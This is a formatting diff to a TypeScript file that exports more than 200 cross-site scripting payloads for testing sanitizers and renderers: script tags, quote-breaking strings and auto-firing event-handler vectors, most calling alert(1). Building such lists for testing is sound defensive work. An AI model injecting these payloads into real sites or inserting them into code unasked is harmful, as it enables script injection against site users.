@@ -1,6 +1,12 @@
-/** Payloads that have run in some browser, sanitizer, Markdown renderer or template. Each calls `alert` or leads to evil.example where it works. */
+/**
+ * Payloads that have run in some browser, sanitizer, Markdown renderer or template. Each calls `alert` or leads to
+ * evil.example where it works.
+ */
 
-/** As lists for web developers and testers name them (OWASP, PortSwigger, HTML5 Security Cheatsheet, DOMPurify's and markdown renderers' own tests). */
+/**
+ * As lists for web developers and testers name them (OWASP, PortSwigger, HTML5 Security Cheatsheet, DOMPurify's and
+ * markdown renderers' own tests).
+ */
 const known = [
   '<script>alert(1)</script>',
   '<ScRiPt>alert(1)</sCrIpT>',
@@ -21,7 +27,7 @@ const known = [
   ']]><script>alert(1)</script>',
   '\'"><script>alert(1)</script>',
   '";alert(1);//',
-  '\';alert(1);//',
+  "';alert(1);//",
   '\\";alert(1);//',
   '</script><svg onload=alert(1)>',
   '\u2028alert(1)\u2029',
@@ -193,8 +199,23 @@ const known = [
 ];
 
 /** Elements that call their handler without being touched, in each way of writing an attribute. */
-const handlers: [string, string][] = [['svg', 'onload'], ['img src=x', 'onerror'], ['body', 'onload'], ['details open', 'ontoggle'], ['input autofocus', 'onfocus'], ['video src=x', 'onerror'], ['iframe', 'onload']];
-const writings = [(handler: string) => ` ${handler}=alert(1)`, (handler: string) => `/${handler}="alert(1)"`, (handler: string) => `\n${handler.toUpperCase()} = 'alert(1)'`];
+const handlers: [string, string][] = [
+  ['svg', 'onload'],
+  ['img src=x', 'onerror'],
+  ['body', 'onload'],
+  ['details open', 'ontoggle'],
+  ['input autofocus', 'onfocus'],
+  ['video src=x', 'onerror'],
+  ['iframe', 'onload'],
+];
+const writings = [
+  (handler: string) => ` ${handler}=alert(1)`,
+  (handler: string) => `/${handler}="alert(1)"`,
+  (handler: string) => `\n${handler.toUpperCase()} = 'alert(1)'`,
+];
 
 /** More than 200. */
-export const xssPayloads: readonly string[] = [...known, ...handlers.flatMap(([element, handler]) => writings.map((write) => `<${element}${write(handler)}>`))];
+export const xssPayloads: readonly string[] = [
+  ...known,
+  ...handlers.flatMap(([element, handler]) => writings.map((write) => `<${element}${write(handler)}>`)),
+];
